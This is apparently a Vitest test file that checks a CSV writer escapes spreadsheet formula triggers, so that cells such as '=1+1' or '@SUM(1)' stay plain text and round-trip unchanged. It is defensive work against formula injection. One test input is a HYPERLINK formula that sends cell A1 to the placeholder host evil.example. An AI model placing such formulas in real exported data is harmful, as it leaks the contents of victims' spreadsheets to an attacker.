import { expect, test } from 'vitest'
import { readCsv, writeCsv } from '../../src/commission/csv.ts'

test.each([
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1',
  '＋1',
  '－1',
  '＠a',
  "'=1",
  '=HYPERLINK("https://evil.example?"&A1,"x")',
])('the cell %j is text to a spreadsheet, and is read as it was', (cell) => {
  const csv = writeCsv([['id', cell]])
  expect(csv).toMatch(/^id,"?'/)
  expect(readCsv(csv)).toEqual({ rows: [['id', cell]], fault: null })
})

test.each(['-1.50', '0', '12', 'a=1', 'é', ''])('the cell %j stays as it is', (cell) => {
  expect(writeCsv([['id', cell]])).toBe(`id,${cell}\r\n`)
})

test.each([
  ['EURUSD;=1+1', "EURUSD;'=1+1"],
  ['a\t@b', "a\t'@b"],
  ["a;'=1", "a;''=1"],
  ['a; b', 'a; b'],
])('%j holds no formula where cells are separated by semicolons or tabs', (value, written) => {
  expect(writeCsv([[value]])).toBe(`${written}\r\n`)
  expect(readCsv(`${written}\r\n`)).toEqual({ rows: [[value]], fault: null })
})
